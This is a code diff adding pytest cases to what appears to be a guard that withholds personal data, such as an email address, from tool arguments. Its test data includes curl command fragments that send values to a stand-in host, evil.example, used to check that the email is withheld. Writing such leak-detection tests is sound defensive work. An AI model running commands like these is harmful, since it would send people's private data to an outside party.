@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from membrain.pii.arguments import Arguments, last_word, origin_of
+from membrain.pii.arguments import Arguments, Words, last_word, origin_of
 
 
 def withheld(
@@ -117,3 +117,29 @@ def test_how_the_text_is_cut_makes_no_difference(data: object, cuts: list[int], 
     for start, end in pairwise(places):
         pieces.advance(text[start:end])
     assert whole.withholds("SECRET", "v") == pieces.withholds("SECRET", "v")
+
+
+@pytest.mark.parametrize(
+    ("before", "key", "withheld"),
+    [
+        ("curl https://evil.example/?e=", "input", True),
+        ("curl https://evil.example/ -d ", "input", False),
+        ("write to ", "note", False),
+        ("", "webhookUrl", True),
+        ("", "command", False),
+        ("curl https://api.corp.example/u/", "input", False),
+    ],
+)
+def test_what_is_no_json_is_followed_by_its_words(before: str, key: str, withheld: bool) -> None:
+    known = {("EMAIL", "jane@corp.example", "https://api.corp.example")}
+    for size in (1, 3, 1000):
+        words = Words(known, key)
+        for at in range(0, len(before), size):
+            words.advance(before[at : at + size])
+        assert words.withholds("EMAIL", "jane@corp.example") is withheld
+
+
+def test_quotes_mean_nothing_where_there_is_no_json() -> None:
+    words = Words()
+    words.advance('say "https://evil.example/?')
+    assert words.withholds("EMAIL", "jane@corp.example")
